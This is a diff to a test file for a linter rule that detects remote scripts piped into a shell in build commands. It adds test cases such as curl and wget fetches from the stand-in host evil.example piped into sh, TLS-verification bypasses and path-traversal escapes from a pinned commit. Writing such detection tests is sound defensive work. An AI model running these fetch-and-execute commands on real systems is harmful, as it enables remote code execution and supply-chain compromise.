@@ -4,6 +4,7 @@ import rule from '../../../src/rules/supply-chain/downloads/remote-script-exec.t
 import { checkText, expectMarks, messagesOf } from '../../support/example.ts';
 
 const COMMIT = '4f8e2b1c9d7a6350e4f1b2c3d4e5f60718293a4b';
+const PINNED = `https://raw.githubusercontent.com/acme/a/${COMMIT}/a.sh`;
 
 /** Each runs the first word of CMD as a script. */
 const SHELLS_FOR_CMD = [
@@ -109,6 +110,29 @@ describe('remote-script-exec', () => {
       'a second address without a commit',
       `RUN «curl https://github.com/acme/a/raw/${COMMIT}/a.sh https://example.com/a | sh»`,
     ],
+    ...[
+      `curl -A ${COMMIT} evil.example/a`,
+      `curl evil.example/a ${PINNED}`,
+      `curl ${COMMIT}.evil.example/a`,
+      `curl -e ${PINNED} evil.example/a`,
+      `curl -x ${PINNED} https://evil.example/a`,
+      `curl --url evil.example/a ${PINNED}`,
+      `curl ${PINNED} --next https://evil.example/a`,
+      `curl -fsSLk ${PINNED}`,
+      `curl --insecure ${PINNED}`,
+      `curl --request-target /acme/b/main/a.sh ${PINNED}`,
+      `curl -K /a ${PINNED}`,
+      `curl ${PINNED}/../../main/a.sh`,
+      `wget -qO- --no-check-certificate ${PINNED}`,
+      `wget -qO- -e check_certificate=off ${PINNED}`,
+      `wget -qO- -i /list ${PINNED}`,
+      `http --verify=no ${PINNED}`,
+      `xargs curl ${PINNED}`,
+      `$FETCH ${PINNED} evil.example/a`,
+      `$FETCH https://evil.example/a ${PINNED}`,
+      `git archive --remote=ssh://git@git.example.com/a.git main ${COMMIT}`,
+      `git archive --remote=ssh://git@git.example.com/a.git --prefix ${COMMIT} main`,
+    ].map((fetch) => ['a commit that is not all it fetches', `RUN «${fetch} | sh»`]),
     ['a process substitution', 'RUN «bash <(curl -s https://example.com/a) --yes»'],
     ['source', 'RUN «source <(curl -s https://example.com/a)»'],
     ['a here-string', 'RUN «bash <<< "$(curl -s https://example.com/a)"»'],
@@ -222,7 +246,15 @@ describe('remote-script-exec', () => {
       'a program that Python starts',
       `RUN python3 -c "import subprocess as s; s.run(['wc'], input=urlopen('https://example.com/a').read())"`,
     ],
-    ['an address that is a commit', `RUN curl https://raw.githubusercontent.com/acme/a/${COMMIT}/a.sh | sh`],
+    ...[
+      `curl ${PINNED}`,
+      `curl -x http://proxy.example.com:3128 -e https://example.com/ -A me/1.0 -m 9 ${PINNED}`,
+      `curl --keepalive-time 9 --max-filesize 99 --connect-to a:443:b:443 --url ${PINNED}`,
+      `curl ${PINNED} --next ${PINNED}`,
+      `wget -qO- --tries 3 --header 'a: https://example.com/' --ca-directory /etc/ssl ${PINNED}`,
+      `$FETCH --retry 5 ${PINNED}`,
+      `git archive --remote=ssh://git@git.example.com/a.git --prefix a/ ${COMMIT} a.sh`,
+    ].map((fetch) => ['an address that is a commit', `RUN ${fetch} | sh`] as const),
     [
       'a text that is verified before it runs',
       'RUN S=$(curl https://example.com/a) && echo "$S" | sha256sum -c sums && sh -c "$S"',
